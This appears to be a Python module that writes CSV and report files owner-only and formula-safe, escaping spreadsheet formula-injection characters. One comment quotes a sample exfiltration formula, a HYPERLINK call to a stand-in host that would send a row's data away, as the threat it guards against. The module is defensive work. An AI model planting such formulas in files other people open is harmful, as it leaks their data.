"""Files relief writes for people (pulls, packets, diffs, reports): owner-only, written whole,
and every CSV through one formula-safe writer (:func:`write_csv`)."""

from __future__ import annotations

import os
from collections.abc import Iterable, Iterator, Sequence
from contextlib import contextmanager
from enum import Enum
from pathlib import Path

import pyarrow as pa
import pyarrow.compute as pc

from jobs.warehouse.snapshots import PullError

# --- owner-only output ---------------------------------------------------------------------


@contextmanager
def owner_only() -> Iterator[None]:
    """New files and directories get no group/other permissions while writing."""
    previous = os.umask(0o077)
    try:
        yield
    finally:
        os.umask(previous)


def private_dir(path: Path) -> Path:
    """``path`` as a directory; the directories created here are 0700."""
    missing: list[Path] = []
    probe = path
    while not probe.exists():
        missing.append(probe)
        probe = probe.parent
    for directory in reversed(missing):
        directory.mkdir(mode=0o700)
        os.chmod(directory, 0o700)
    if not path.is_dir():
        raise PullError(f"--out {path}: exists and is not a directory", exit_code=2)
    return path


@contextmanager
def private_file(path: Path) -> Iterator[Path]:
    """Write to a temporary sibling, then move it into place as a 0600 file."""
    temporary = path.with_name(f".{path.name}.partial")
    try:
        yield temporary
        os.chmod(temporary, 0o600)
        os.replace(temporary, path)
    finally:
        if temporary.exists():
            temporary.unlink()


# --- CSV: one writer for every CSV relief writes ---------------------------------------------
#
# Formula safety (OWASP "CSV Injection"): a spreadsheet evaluates a cell that starts with
# = + - @, TAB or CR as a formula (``=HYPERLINK("http://x/?"&A2, "click")`` sends a row
# away), and Excel and LibreOffice skip leading spaces before deciding. Such a value is
# written with a single quote in front, which spreadsheets read as "this is text". Two kinds
# of value are left alone because they cannot be formulas and a reader compares them byte
# for byte: a plain number (``-1.0``, ``+3``, ``-2.5e3``) and the reference tool's ``-``
# placeholder (a dash alone, spaces around it allowed).

# Characters a spreadsheet skips before looking at the first one (ASCII and Unicode spaces).
_SPACE = " \f\v\n\u00a0\u1680\u2000-\u200a\u2028\u2029\u202f\u205f\u3000\ufeff"
_FORMULA_START = rf"^(?:[\t\r]|[{_SPACE}]*[=+\-@])"
_HARMLESS = rf"^[{_SPACE}]*(?:-|[+-]?(?:[0-9]+\.?[0-9]*|\.[0-9]+)(?:[eE][+-]?[0-9]+)?)[{_SPACE}]*$"
FORMULA_PREFIX = "'"


def formula_safe(values: pa.Array | pa.ChunkedArray) -> pa.Array | pa.ChunkedArray:
    """Text values a spreadsheet would evaluate, prefixed with ``'``; the rest unchanged."""
    risky = pc.and_not(
        pc.match_substring_regex(values, _FORMULA_START),
        pc.match_substring_regex(values, _HARMLESS),
    )
    return pc.if_else(
        pc.fill_null(risky, False), pc.binary_join_element_wise(FORMULA_PREFIX, values, ""), values
    )


class CsvStyle(Enum):
    """How a CSV file is laid out; every style is formula-safe, UTF-8 and ends lines in LF.

    - ``SPREADSHEET`` (county pulls, packets): RFC 4180 quoting (a field holding a comma,
      a quote, CR or LF is quoted), a null is an empty field and an empty string ``""``, and
      a UTF-8 byte-order mark so Excel reads accented names as UTF-8.
    - ``PLAIN``: as SPREADSHEET without the byte-order mark (files read by scripts).
    - ``GO``: the reference tool's writer, Go's encoding/csv: a field is quoted when it holds
      a comma, a quote, CR or LF, starts with white space or is exactly ``\\.``; no BOM.
    """

    SPREADSHEET = "spreadsheet"
    PLAIN = "plain"
    GO = "go"

    @property
    def bom(self) -> bool:
        return self is CsvStyle.SPREADSHEET


_RFC4180_NEEDS_QUOTES = r'[,"\r\n]'
# Go's encoding/csv (fieldNeedsQuotes): a comma, quote, CR or LF anywhere, a leading
# white-space rune (unicode.IsSpace), or the field \. alone; an empty field is not quoted.
_GO_NEEDS_QUOTES = r'[,"\r\n]|^[\t\n\x{0B}\f\r \x{85}\x{A0}\p{Z}]|^\\\.$'


def _as_text(values: pa.Array | pa.ChunkedArray) -> pa.Array:
    array = values.combine_chunks() if isinstance(values, pa.ChunkedArray) else values
    if pa.types.is_large_string(array.type) or pa.types.is_string_view(array.type):
        return pc.cast(array, pa.string())
    return array if pa.types.is_string(array.type) else pc.cast(array, pa.string())


def csv_fields(values: pa.Array | pa.ChunkedArray, style: CsvStyle) -> pa.Array:
    """Each value as one CSV field in ``style``: text, formula-safe, quoted where needed."""
    text = formula_safe(_as_text(values))
    pattern = _GO_NEEDS_QUOTES if style is CsvStyle.GO else _RFC4180_NEEDS_QUOTES
    needs = pc.match_substring_regex(text, pattern)
    if style is not CsvStyle.GO:
        # "" stays apart from a null (an empty field) so a pull reads back what was stored.
        needs = pc.or_(needs, pc.equal(text, ""))
    quoted = pc.binary_join_element_wise('"', pc.replace_substring(text, '"', '""'), '"', "")
    return pc.fill_null(pc.if_else(needs, quoted, text), "")


def csv_lines(columns: Sequence[pa.Array | pa.ChunkedArray], style: CsvStyle) -> pa.ChunkedArray:
    """One CSV line (without its LF) per row of ``columns``."""
    # One contiguous array per column: element-wise kernels over many small chunks are slow.
    fields = [csv_fields(c, style) for c in columns]
    return pa.chunked_array([pc.binary_join_element_wise(*fields, ",")], pa.string())


def csv_header(names: Sequence[str], style: CsvStyle) -> str:
    line = csv_lines([pa.array([n], pa.string()) for n in names], style)[0].as_py()
    return str(line)


def write_csv_lines(
    path: Path, header: Sequence[str], lines: pa.ChunkedArray, style: CsvStyle
) -> Path:
    """``header`` and ``lines`` (from :func:`csv_lines`) as one owner-only file."""
    encoding = "utf-8-sig" if style.bom else "utf-8"
    with private_file(path) as temporary, temporary.open("w", encoding=encoding, newline="") as out:
        out.write(csv_header(header, style) + "\n")
        for chunk in lines.chunks:
            for start in range(0, len(chunk), _WRITE_ROWS):
                values = chunk.slice(start, _WRITE_ROWS).to_pylist()
                if values:
                    out.write("\n".join(values))
                    out.write("\n")
    return path


_WRITE_ROWS = 20_000


def write_csv(path: Path, table: pa.Table, style: CsvStyle = CsvStyle.SPREADSHEET) -> Path:
    """Every row of ``table`` (flat columns: text, numbers, dates, booleans) as CSV."""
    lines = (
        csv_lines(table.columns, style)
        if table.num_columns
        else pa.chunked_array([pa.array([""] * table.num_rows, pa.string())])
    )
    return write_csv_lines(path, table.column_names, lines, style)


def rows_table(header: Sequence[str], rows: Iterable[Sequence[str | None]]) -> pa.Table:
    """Rows of text (a packet's, a diff's) as a table for :func:`write_csv`; '' is a null."""
    data: list[list[str | None]] = [[] for _ in header]
    for row in rows:
        if len(row) != len(header):
            raise ValueError(f"a row has {len(row)} fields, the header {len(header)}")
        for column, value in zip(data, row, strict=True):
            column.append(value or None)
    return pa.table([pa.array(c, pa.string()) for c in data], names=list(header))
